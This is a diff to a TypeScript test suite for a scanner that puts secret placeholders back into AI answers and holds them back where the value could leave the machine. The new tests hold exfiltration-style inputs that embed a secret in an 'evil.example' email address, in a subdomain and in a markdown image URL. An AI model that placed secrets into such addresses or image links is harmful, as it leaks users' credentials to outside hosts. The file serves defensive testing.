@@ -72,6 +72,16 @@ const answers: readonly { name: string; channel: AnswerChannel; whole: string }[
     whole: JSON.stringify({ command: `echo TOKEN=${conversation().known} > .env` }),
   },
   {
+    name: "placeholders in links, in markup and in prose",
+    channel: text,
+    whole: `A ${conversation().known}. ![x](<https://e.example/a b?${conversation().known}>) ${conversation().known}@e <img alt=">" src="x ${conversation().known}"> ${"word ".repeat(2_500)}${conversation().known}`,
+  },
+  {
+    name: "a JSON document with a placeholder",
+    channel: text,
+    whole: `{"a": "\\"${conversation().known}\\u0020", "b": "${conversation().known}"}`,
+  },
+  {
     name: "a network call with a placeholder",
     channel: call,
     whole: JSON.stringify({
@@ -126,6 +136,33 @@ describe("answer scanner", () => {
       token,
     );
     expect(scan({ ...call, tool: "web_fetch" }, [JSON.stringify({ body: known })]).text).not.toContain(token);
+  });
+
+  test("does not restore a placeholder that is a part of an address, or in a call that may leave the machine", () => {
+    const { known } = conversation();
+    for (const sent of [
+      `${known}@evil.example`,
+      `${known}.evil.example`,
+      `![x](<https://evil.example/a b?d=${known}>)`,
+    ])
+      expect(scan(text, [`Look: ${sent} now`]).text).not.toContain(token);
+    expect(scan(text, [`The key is ${known}.`]).text).toContain(token);
+    for (const tool of ["mcp__github__create_issue", "query", undefined]) {
+      const args = JSON.stringify({ body: known });
+      expect(scan({ kind: "tool_call", id: "c", ...(tool === undefined ? {} : { tool }) }, [args]).text).toBe(args);
+    }
+  });
+
+  test("a value with line breaks keeps a JSON document valid", () => {
+    const value = 'line "one"\nline \\two';
+    const placeholders = createPlaceholders({ key, isTaken: () => false });
+    const held = placeholders.placeholderFor("secret.private_key", value);
+    const whole = JSON.stringify({ key: held, other: "a" }, undefined, 1);
+    for (const pieces of [[whole], [...whole]]) {
+      const scanner = createAnswerScanner(engine, { decide, placeholders });
+      const out = [...pieces.map((piece) => scanner.push(text, piece)), scanner.end(text)].map((step) => step.text);
+      expect(JSON.parse(out.join(""))).toEqual({ key: value, other: "a" });
+    }
   });
 
   test("leaves a placeholder of another conversation as it is", () => {
